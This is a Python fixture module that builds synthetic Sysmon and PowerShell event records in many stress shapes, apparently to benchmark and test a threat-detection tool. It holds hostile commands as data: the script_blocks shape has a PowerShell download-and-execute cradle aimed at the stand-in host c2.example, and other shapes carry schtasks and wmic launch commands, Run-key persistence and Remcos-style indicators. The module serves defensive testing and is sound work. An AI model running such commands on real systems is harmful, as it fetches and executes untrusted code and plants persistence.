"""Telemetry of awkward shapes, honest or hostile, in which one thing happens very often.

Each shape is a function of n, the number of records to make (or of parts, lines, members), that
yields records as a reader does. `bench/growth.py` measures them; the suite counts what small ones
take (`tests/test_growth.py`).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from lineage.read.record import RawRecord

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

SYSMON = "Microsoft-Windows-Sysmon"
AUDITING = "Microsoft-Windows-Security-Auditing"
POWERSHELL = "Microsoft-Windows-PowerShell"
TEMP = "C:\\Users\\zoe\\AppData\\Local\\Temp\\"
SYSTEM32 = "C:\\Windows\\System32\\"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
RUN = "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
EXPLORER = "C:\\Windows\\explorer.exe"
LIBRARY = "dynwrapx.dll"

Data = dict[str, Any]
Record = tuple[int, Data]


def clock(second: float) -> str:
    whole, part = int(second), int(second % 1 * 1000)
    days, rest = divmod(whole, 86_400)
    hours, rest = divmod(rest, 3600)
    return f"2026-01-{1 + days:02} {hours:02}:{rest // 60:02}:{rest % 60:02}.{part:03}"


def guid(number: int) -> str:
    return f"{{11111111-0000-0000-0000-{number:012d}}}"


def start(
    number: int, image: str, parent: int = 0, parent_image: str = EXPLORER, **fields: str
) -> Data:
    """Sysmon 1."""
    return {
        "ProcessGuid": guid(number),
        "ProcessId": str(number % 60_000 + 8),
        "Image": image,
        "CommandLine": f'"{image}"',
        "ParentProcessGuid": guid(parent),
        "ParentProcessId": str(parent % 60_000 + 8),
        "ParentImage": parent_image,
        "User": "D\\zoe",
    } | fields


def act(number: int, image: str, **fields: str) -> Data:
    """What a process did, in Sysmon's words."""
    return {
        "ProcessGuid": guid(number),
        "ProcessId": str(number % 60_000 + 8),
        "Image": image,
    } | fields


def reach(number: int, image: str, target: int, target_image: str, **fields: str) -> Data:
    """What a process did to another, in Sysmon's words."""
    return {
        "SourceProcessGuid": guid(number),
        "SourceProcessId": str(number % 60_000 + 8),
        "SourceImage": image,
        "TargetProcessGuid": guid(target),
        "TargetProcessId": str(target % 60_000 + 8),
        "TargetImage": target_image,
    } | fields


# -- programs and files ---------------------------------------------------------------------------


def runs_of_one_program(n: int) -> Iterator[Record]:
    for number in range(1, n + 1):
        yield 1, start(number, TEMP + "tool.exe")


def writers_of_one_file(n: int) -> Iterator[Record]:
    for number in range(1, n // 2 + 1):
        yield 1, start(number, f"C:\\Tools\\a{number % 50}.exe")
        yield 11, act(number, "C:\\Tools\\a.exe", TargetFilename=TEMP + "shared.exe")


def write_and_run(n: int) -> Iterator[Record]:
    for number in range(1, n // 2 + 1):
        yield 11, act(0, EXPLORER, TargetFilename=TEMP + "again.exe")
        yield 1, start(number, TEMP + "again.exe")


def writers_and_runs(n: int) -> Iterator[Record]:
    """Every run is of a version that somebody else wrote."""
    for number in range(1, n // 3 + 1):
        writer, image = 2 * number, TEMP + "writer.exe"
        yield 1, start(writer, image)
        yield 11, act(writer, image, TargetFilename=TEMP + "again.exe")
        yield 1, start(writer + 1, TEMP + "again.exe")


def loaders_of_copies(n: int) -> Iterator[Record]:
    for number in range(1, n // 3 + 1):
        image = TEMP + f"{number}\\host.exe"
        library = TEMP + f"{number}\\{LIBRARY}"
        yield 11, act(0, EXPLORER, TargetFilename=library)
        yield 1, start(number, image)
        yield 7, act(number, image, ImageLoaded=library, Hashes="MD5=" + "A" * 32)


def loaders_of_one_file(n: int) -> Iterator[Record]:
    yield 11, act(0, EXPLORER, TargetFilename=TEMP + LIBRARY)
    for number in range(1, n // 2 + 1):
        image = TEMP + "host.exe"
        yield 1, start(number, image)
        yield 7, act(number, image, ImageLoaded=TEMP + LIBRARY, Hashes="MD5=" + "A" * 32)


def copies_of_one_file(n: int) -> Iterator[Record]:
    """Every copy has the same content, and is run."""
    for number in range(1, n // 2 + 1):
        image = f"{TEMP}copy{number}.exe"
        yield 29, act(0, EXPLORER, TargetFilename=image, Hashes="SHA256=" + "C" * 64)
        yield 1, start(number, image, Hashes="SHA256=" + "C" * 64)


def mounted_images(n: int) -> Iterator[Record]:
    recent = "C:\\Users\\zoe\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\"
    for number in range(1, n // 2 + 1):
        yield 11, act(0, EXPLORER, TargetFilename=f"{recent}i{number}.iso.lnk")
        yield 1, start(number, f"{'DEFG'[number % 4]}:\\setup{number}.exe")


def archive_members(n: int) -> Iterator[Record]:
    for number in range(1, n // 2 + 1):
        path = f"{TEMP}Temp1_big.zip\\m{number}.exe"
        yield 11, act(0, EXPLORER, TargetFilename=path)
        yield 1, start(number, path)


def hits_on_one_process(n: int) -> Iterator[Record]:
    image = TEMP + "busy.exe"
    yield 1, start(1, image)
    for number in range(n):
        yield 11, act(1, image, TargetFilename=f"{TEMP}p{number}.exe")


def one_hit_often(n: int) -> Iterator[Record]:
    image = TEMP + "busy.exe"
    yield 1, start(1, image)
    for _ in range(n):
        yield 11, act(1, image, TargetFilename=f"{TEMP}p.exe")


def users_with_short_names(n: int) -> Iterator[Record]:
    """More users' folders than are kept, and paths that shorten them."""
    for number in range(n // 2):
        yield 11, act(0, EXPLORER, TargetFilename=f"C:\\Users\\somebody{number}\\a.exe")
        yield 11, act(0, EXPLORER, TargetFilename=f"C:\\Users\\SOMEBO~{number % 9}\\{number}.exe")


# -- families of processes ------------------------------------------------------------------------


def nested(n: int) -> Iterator[Record]:
    image = TEMP + "deep.exe"
    for number in range(1, n + 1):
        yield 1, start(number, image, number - 1, image)


def ladder(n: int) -> Iterator[Record]:
    """Each untagged process has a tagged child, and the next step as a child."""
    step = "C:\\Program Files\\Tool\\step.exe"
    for number in range(1, n // 2 + 1):
        yield 1, start(2 * number, step, max(2 * number - 2, 0), step)
        yield 1, start(2 * number + 1, TEMP + f"t{number % 100}.exe", 2 * number, step)


def children_of_one(n: int) -> Iterator[Record]:
    parent = "C:\\Program Files\\Tool\\server.exe"
    yield 1, start(1, parent)
    for number in range(2, n + 1):
        yield 1, start(number, f"C:\\Program Files\\Tool\\worker{number % 20}.exe", 1, parent)


def brood(n: int) -> Iterator[Record]:
    """An untagged launcher that starts nothing but tagged children, all in a moment."""
    launcher = TEMP + "launcher.exe"
    yield 1, start(1, launcher)
    for number in range(2, n + 1):
        yield 1, start(number, TEMP + f"b{number % 100}.exe", 1, launcher)


def tagged_children_of_one(n: int) -> Iterator[Record]:
    yield 1, start(1, WORD)
    for number in range(2, n + 1):
        yield 1, start(number, SYSTEM32 + "cmd.exe", 1, WORD)


def one_start_told_often(n: int) -> Iterator[Record]:
    for _ in range(n):
        yield 1, start(1, TEMP + "tool.exe")


def one_pid(n: int) -> Iterator[Record]:
    """No guids, and a pid that changes hands at every start without a logged end."""
    for number in range(n // 2):
        image = f"{TEMP}t{number % 30}.exe"
        who = {"ProcessId": "4242", "Image": image}
        yield 1, who | {"CommandLine": image, "ParentProcessId": "4242", "ParentImage": EXPLORER}
        yield 11, who | {"TargetFilename": f"{TEMP}w{number}.exe"}


def programs_of_one_pid(n: int) -> Iterator[Record]:
    """Nobody's start was logged, and every event names another program."""
    for number in range(n):
        image = f"{TEMP}t{number}.exe"
        yield 11, {"ProcessId": "4242", "Image": image, "TargetFilename": f"{TEMP}w.exe"}


def injections(n: int) -> Iterator[Record]:
    image, target = TEMP + "inject.exe", SYSTEM32 + "notepad.exe"
    yield 1, start(1, image)
    for number in range(2, n // 2 + 2):
        yield 1, start(number, target, 1, image)
        yield 8, reach(1, image, number, target)


def injections_into_one(n: int) -> Iterator[Record]:
    image, target = TEMP + "inject.exe", SYSTEM32 + "notepad.exe"
    yield 1, start(1, target)
    for number in range(2, n // 2 + 2):
        yield 1, start(number, image)
        yield 8, reach(number, image, 1, target)


def handles_of_one(n: int) -> Iterator[Record]:
    """One process that opens every other, as protections do."""
    monitor = "C:\\Program Files\\Guard\\guard.exe"
    yield 1, start(1, monitor)
    for number in range(2, n // 2 + 2):
        image = TEMP + f"t{number % 100}.exe"
        yield 1, start(number, image)
        yield 10, reach(1, monitor, number, image, GrantedAccess="0x1fffff", CallTrace="x")


def sessions_of_one(n: int) -> Iterator[Record]:
    for number in range(1, n + 1):
        yield 1, start(number, TEMP + "tool.exe", LogonId="0x4242", IntegrityLevel="High")


# -- what starts programs later -------------------------------------------------------------------


def setters_of_one_value(n: int) -> Iterator[Record]:
    for number in range(1, n // 2 + 1):
        yield 1, start(number, TEMP + f"s{number % 50}.exe")
        yield 13, act(number, TEMP + "s.exe", EventType="SetValue", TargetObject=RUN + "x",
                      Details=TEMP + "again.exe")  # fmt: skip


def values_under_one_key(n: int) -> Iterator[Record]:
    """Every value has the shell start a program of its own at the next logon."""
    image = TEMP + "setter.exe"
    yield 1, start(1, image)
    for number in range(1, n // 2 + 1):
        yield 13, act(1, image, EventType="SetValue", TargetObject=f"{RUN}v{number}",
                      Details=f"{TEMP}v{number}.exe")  # fmt: skip
    for number in range(1, n // 2 + 1):
        yield 1, start(number + 1, f"{TEMP}v{number}.exe", 0, EXPLORER)


def values_of_one_program(n: int) -> Iterator[Record]:
    """Every value has the shell start the same program, which it does now and again."""
    image = TEMP + "setter.exe"
    yield 1, start(1, image)
    for number in range(1, n // 2 + 1):
        yield 13, act(1, image, EventType="SetValue", TargetObject=f"{RUN}v{number}",
                      Details=TEMP + "again.exe")  # fmt: skip
        yield 1, start(number + 1, TEMP + "again.exe", 0, EXPLORER)


def tasks(n: int) -> Iterator[Record]:
    image, host = SYSTEM32 + "schtasks.exe", SYSTEM32 + "svchost.exe"
    yield 1, start(1, host, 0, SYSTEM32 + "services.exe",
                   CommandLine="svchost.exe -k netsvcs -p -s Schedule")  # fmt: skip
    for number in range(1, n // 2 + 1):
        program = f"{TEMP}t{number}.exe"
        yield 1, start(2 * number, image, 0, EXPLORER,
                       CommandLine=f"schtasks /create /tn t{number} /tr {program}")  # fmt: skip
        yield 1, start(2 * number + 1, program, 1, host)


def requests_to_wmi(n: int) -> Iterator[Record]:
    provider = SYSTEM32 + "wbem\\WmiPrvSE.exe"
    yield 1, start(1, provider, 0, SYSTEM32 + "svchost.exe")
    for number in range(1, n // 2 + 1):
        program = f"{TEMP}t{number}.exe"
        yield 1, start(2 * number, SYSTEM32 + "wbem\\WMIC.exe", 0, EXPLORER,
                       CommandLine=f"wmic process call create {program}")  # fmt: skip
        yield 1, start(2 * number + 1, program, 1, provider)


# -- names, connections, pipes --------------------------------------------------------------------


def names_asked_for(n: int) -> Iterator[Record]:
    image = TEMP + "dns.exe"
    yield 1, start(1, image)
    for number in range(n):
        yield 22, act(1, image, QueryName=f"n{number % 1000}.example", QueryStatus="0")


def name_asked_by_many(n: int) -> Iterator[Record]:
    for number in range(1, n // 2 + 1):
        image = TEMP + f"t{number % 100}.exe"
        yield 1, start(number, image)
        yield 22, act(number, image, QueryName="c2.example", QueryStatus="0")


def endpoint_of_many(n: int) -> Iterator[Record]:
    for number in range(1, n // 2 + 1):
        image = TEMP + f"t{number % 100}.exe"
        yield 1, start(number, image)
        yield 3, act(number, image, Protocol="tcp", Initiated="true", SourceIp="10.0.0.1",
                     SourcePort=str(number % 60_000), DestinationIp="203.0.113.7",
                     DestinationPort="443")  # fmt: skip


def endpoints_of_one(n: int) -> Iterator[Record]:
    image = TEMP + "scan.exe"
    yield 1, start(1, image)
    for number in range(n):
        address = f"10.{number >> 16}.{number >> 8 & 255}.{number & 255}"
        yield 3, act(1, image, Protocol="tcp", Initiated="true", SourceIp="10.0.0.1",
                     SourcePort="1", DestinationIp=address, DestinationPort="445")  # fmt: skip


def clients_of_one_pipe(n: int) -> Iterator[Record]:
    yield 17, act(1, TEMP + "server.exe", PipeName="\\svc", EventType="CreatePipe")
    for number in range(2, n // 2 + 2):
        image = TEMP + f"t{number % 100}.exe"
        yield 1, start(number, image)
        yield 18, act(number, image, PipeName="\\svc", EventType="ConnectPipe")


# -- attacks that are sure -----------------------------------------------------------------------


def confirmed(n: int) -> Iterator[Record]:
    """Remcos with very many files, names, addresses and entries, which all are indicators."""
    program = "C:\\Users\\zoe\\AppData\\Roaming\\Remcos\\r.exe"
    key = "HKU\\S-1-5-21-1-2-3-1001\\Software\\Remcos-AB12CD\\"
    yield 1, start(1, program, Hashes="SHA256=" + "B" * 64)
    for value in ("licence", "exepath"):
        yield 13, act(1, program, EventType="SetValue", TargetObject=key + value, Details="x")
    for number in range(2, n // 5 + 2):
        file = f"C:\\ProgramData\\f{number}.exe"
        address = f"8.{number >> 16}.{number >> 8 & 255}.{number & 255}"
        yield 11, act(1, program, TargetFilename=file)
        yield 1, start(number, file, 1, program)
        yield 13, act(1, program, EventType="SetValue", TargetObject=f"{RUN}v{number}",
                      Details=file)  # fmt: skip
        yield 22, act(1, program, QueryName=f"n{number}.c2.example", QueryStatus="0")
        yield 3, act(1, program, Protocol="tcp", Initiated="true", SourceIp="10.0.0.1",
                     SourcePort="1", DestinationIp=address, DestinationPort="443")  # fmt: skip


def touchers_of_one_key(n: int) -> Iterator[Record]:
    """A family's value that many make, rename and delete, and nobody sets."""
    value = "HKU\\S-1-5-21-1-2-3-1001\\Software\\Remcos-AB12CD\\licence"
    for number in range(1, n // 3 + 1):
        image = TEMP + f"t{number % 100}.exe"
        yield 1, start(number, image)
        yield 12, act(number, image, EventType="CreateKey", TargetObject=value)
        yield 12, act(number, image, EventType="DeleteValue", TargetObject=value)


# -- texts ----------------------------------------------------------------------------------------


def script_in_parts(n: int) -> Iterator[Record]:
    for number in range(1, n + 1):
        yield 4104, {"ScriptBlockText": f"$a{number} = {number}\n", "ScriptBlockId": "one",
                     "MessageNumber": str(number), "MessageTotal": str(n), "Path": ""}  # fmt: skip


def script_blocks(n: int) -> Iterator[Record]:
    for number in range(1, n + 1):
        text = f"IEX (New-Object Net.WebClient).DownloadString('http://c2.example/{number}')"
        yield 4104, {"ScriptBlockText": text, "ScriptBlockId": str(number),
                     "MessageNumber": "1", "MessageTotal": "1", "Path": ""}  # fmt: skip


def long_script(n: int) -> Iterator[Record]:
    text = "".join(f"schtasks /create /tn t /tr C:\\a{k}.exe; 'C:\\b {k}.exe'\n" for k in range(n))
    yield 4104, {"ScriptBlockText": text, "ScriptBlockId": "1", "MessageNumber": "1",
                 "MessageTotal": "1", "Path": ""}  # fmt: skip


def long_command_line(n: int) -> Iterator[Record]:
    line = "cmd.exe /c " + " & ".join(f'"C:\\Users\\zoe\\a {k}.bat" -x' for k in range(n))
    yield 1, start(1, SYSTEM32 + "cmd.exe", CommandLine=line)
    yield 1, start(2, TEMP + "a.exe", 1, SYSTEM32 + "cmd.exe", ParentCommandLine=line)


def open_quotes(n: int) -> Iterator[Record]:
    line = "powershell.exe " + "\"'`^%(" * n
    yield 1, start(1, SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", CommandLine=line)


_PROVIDERS = {4104: POWERSHELL, 4688: AUDITING}
ONE_HOST: dict[str, Callable[[int], Iterator[Record]]] = {
    shape.__name__: shape
    for shape in (
        runs_of_one_program, writers_of_one_file, write_and_run, writers_and_runs,
        loaders_of_copies, loaders_of_one_file, copies_of_one_file, mounted_images,
        archive_members, hits_on_one_process, one_hit_often, users_with_short_names, nested,
        ladder, brood, children_of_one, tagged_children_of_one, one_start_told_often, one_pid,
        programs_of_one_pid, injections, injections_into_one, handles_of_one, sessions_of_one,
        setters_of_one_value, values_under_one_key, values_of_one_program, tasks,
        requests_to_wmi, names_asked_for, name_asked_by_many, endpoint_of_many,
        endpoints_of_one, clients_of_one_pipe, confirmed, touchers_of_one_key, script_in_parts,
        script_blocks, long_script,
        long_command_line, open_quotes,
    )
}  # fmt: skip
SHAPES = (*ONE_HOST, "equal_times", "hosts_of_one_campaign", "hosts_sharing_a_short_name")


def records(shape: str, n: int) -> Iterator[RawRecord]:
    """The records of a shape, as a reader yields them."""
    if shape in SHAPES[-2:]:
        yield from _many_hosts(shape, n)
        return
    equal = shape == "equal_times"
    made = runs_of_one_program(n) if equal else ONE_HOST[shape](n)
    for number, (event, data) in enumerate(made, start=1):
        second = 0 if equal else number / 1000 if shape == "brood" else number / 10
        yield _record(number, event, data, "HOST.example", second)


def _many_hosts(shape: str, n: int) -> Iterator[RawRecord]:
    program, number = "C:\\Users\\zoe\\AppData\\Roaming\\Remcos\\r.exe", 0
    key = "HKU\\S-1-5-21-1-2-3-1001\\Software\\Remcos-AB12CD\\"
    for host in range(n // 4):
        name = f"H{host}.example" if shape == SHAPES[-2] else f"HOST.d{host}.example"
        events: list[Record] = [
            (1, start(host + 1, program, Hashes="SHA256=" + "B" * 64)),
            (13, act(host + 1, program, EventType="SetValue", TargetObject=key + "licence",
                     Details="x")),
            (13, act(host + 1, program, EventType="SetValue", TargetObject=key + "exepath",
                     Details="y")),
            (22, act(host + 1, program, QueryName="c2.example", QueryStatus="0")),
        ]  # fmt: skip
        for event, data in events:
            number += 1
            yield _record(number, event, data, name, number / 10)


def _record(number: int, event: int, data: Data, host: str, second: float) -> RawRecord:
    time = clock(second)
    provider = _PROVIDERS.get(event, SYSMON)
    return RawRecord(number, number, provider, event, "", host, time, None, None,
                     data | {"UtcTime": time})  # fmt: skip
